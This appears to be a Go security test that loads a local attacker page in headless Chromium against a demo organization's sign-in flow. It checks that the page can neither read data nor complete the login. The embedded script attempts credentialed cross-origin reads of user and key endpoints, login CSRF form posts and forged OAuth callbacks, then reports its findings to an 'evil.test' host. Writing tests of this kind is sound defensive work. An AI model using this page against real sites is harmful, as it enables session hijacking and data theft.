//go:build window

package realwindow

// Web pages of others in a real browser, while the demo organization and a sign-in listen
// on this computer: what they send there, and what they may read of it.

import (
	"context"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"strings"
	"testing"
	"time"

	"mileiq.example/admin/client"
	"mileiq.example/admin/client/clienttest"
	"mileiq.example/admin/client/sandbox"
)

// evilPage tries what a page can, and reports what it could read. %[1]s is the demo, %[2]s
// the same under a name of the page's owner, %[3]s the callback with the right state, %[4]s
// a sign-in page that waits for an account.
const evilPage = `<!DOCTYPE html><title>evil</title><body><script>
const read = []
async function attack(name, address, options) {
	try {
		const answer = await fetch(address, {...options, signal: AbortSignal.timeout(2000)})
		if (answer.type !== 'opaque') read.push(name + ': ' + answer.status + ' ' + (await answer.text()).slice(0, 80))
	} catch (e) {}
}
function form(address, fields) {
	const frame = document.createElement('iframe'), f = document.createElement('form')
	frame.name = 'f' + Math.random()
	f.method = 'POST'; f.action = address; f.target = frame.name
	for (const [name, value] of Object.entries(fields)) {
		const i = document.createElement('input'); i.name = name; i.value = value; f.append(i)
	}
	document.body.append(frame, f)
	return new Promise(done => { frame.onload = done; setTimeout(done, 1500); f.submit() })
}
function load(kind, address) {
	return new Promise(done => {
		const e = document.createElement(kind)
		e.onload = () => { if (kind === 'img' || kind === 'script') read.push(kind + ' ' + address); done() }
		e.onerror = done; setTimeout(done, 1500)
		e.src = address; document.body.append(e)
	})
}
(async () => {
	for (const base of ['%[1]s', '%[2]s']) {
		for (const path of ['/', '/profile.toml', '/mail.json', '/scim/v2/Users', '/.well-known/openid-configuration', '/keys'])
			for (const mode of ['cors', 'no-cors']) await attack(base + path, base + path, {mode, credentials: 'include'})
		await attack('preflight', base + '/scim/v2/Users', {method: 'PATCH', headers: {'X-Evil': '1', 'Authorization': 'Bearer x'}, body: '{}'})
	}
	const account = {account: 'avery.moss'}
	await attack('login', '%[4]s', {method: 'POST', mode: 'no-cors', body: new URLSearchParams(account)})
	await form('%[4]s', account)
	await attack('callback', '%[3]s', {mode: 'no-cors'})
	await attack('callback, read', '%[3]s', {})
	await form('%[3]s', {code: 'x'})
	await load('img', '%[3]s'); await load('script', '%[3]s'); await load('iframe', '%[3]s')
	await fetch('/report', {method: 'POST', body: JSON.stringify(read)})
})()
</script>`

// visit has a browser of its own go to an address until done is closed, where evil.test
// is this computer.
func visit(t *testing.T, address string, done <-chan []string) []string {
	t.Helper()
	profile, err := os.MkdirTemp("", "browser")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = os.RemoveAll(profile) })
	ctx, cancel := context.WithTimeout(t.Context(), patience)
	defer cancel()
	command := exec.CommandContext(ctx, "chromium", "--headless=new", "--user-data-dir="+profile, "--remote-debugging-port=0",
		"--host-resolver-rules=MAP evil.test 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1",
		"--no-sandbox", "--disable-dev-shm-usage", "--disable-gpu", "--no-first-run", "--disable-background-networking", address)
	if err := command.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() {
		_ = command.Process.Kill()
		_ = command.Wait()
	}()
	select {
	case read := <-done:
		return read
	case <-ctx.Done():
		t.Fatal("the page did not report")
		return nil
	}
}

func TestWebPagesOfOthersReadNothingAndEndNoSignIn(t *testing.T) {
	demo := clienttest.StartOrganization(t, sandbox.Options{Users: 20})
	t.Cleanup(func() { _ = demo.Close() })
	c, err := client.Open(clienttest.NewComputer(t).Options(demo.Profile()))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = c.Close() })
	if err := c.Start(t.Context()); err != nil {
		t.Fatal(err)
	}
	flow, err := c.BeginSignIn(t.Context(), client.CallbackPage{})
	if err != nil {
		t.Fatal(err)
	}
	finished := clienttest.Finishing(flow)
	asked, err := url.Parse(flow.URL())
	if err != nil {
		t.Fatal(err)
	}
	callback := asked.Query().Get("redirect_uri") + "?" + url.Values{"state": {asked.Query().Get("state")}, "code": {"evil"}, "iss": {demo.Issuer()}}.Encode()
	login := pendingLogin(t, flow.URL())
	reported := make(chan []string, 1)
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/report" {
			var read []string
			_ = json.NewDecoder(r.Body).Decode(&read)
			reported <- read
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = fmt.Fprintf(w, evilPage, demo.Issuer(), strings.Replace(demo.Issuer(), "127.0.0.1", "evil.test", 1), callback, login)
	}))
	t.Cleanup(evil.Close)
	_, port, _ := net.SplitHostPort(evil.Listener.Addr().String())

	read := visit(t, "http://evil.test:"+port+"/", reported)

	if len(read) > 0 {
		t.Errorf("the page read %q", read)
	}
	for _, r := range demo.Requests() {
		if r.Method != http.MethodGet && r.Method != http.MethodOptions {
			t.Errorf("it sent %v", r)
		}
	}
	answer, err := http.Get(login)
	if err != nil {
		t.Fatal(err)
	}
	_ = answer.Body.Close()
	if answer.StatusCode != http.StatusOK {
		t.Errorf("the page chose an account: the sign-in page answers %d", answer.StatusCode)
	}
	select {
	case err := <-finished:
		t.Fatalf("the page ended the sign-in: %v", err)
	default:
	}
	if err := clienttest.Browse(t.Context(), flow.URL(), clienttest.Avery); err != nil {
		t.Fatal(err)
	}
	if err := <-finished; err != nil {
		t.Errorf("the sign-in did not survive: %v", err)
	}
}

// pendingLogin is the address of a sign-in page that waits for somebody to choose.
func pendingLogin(t *testing.T, address string) string {
	t.Helper()
	jar, err := cookiejar.New(nil)
	if err != nil {
		t.Fatal(err)
	}
	browser := &http.Client{Jar: jar, Timeout: 30 * time.Second}
	page, err := browser.Get(address)
	if err != nil {
		t.Fatal(err)
	}
	_ = page.Body.Close()
	return page.Request.URL.String()
}
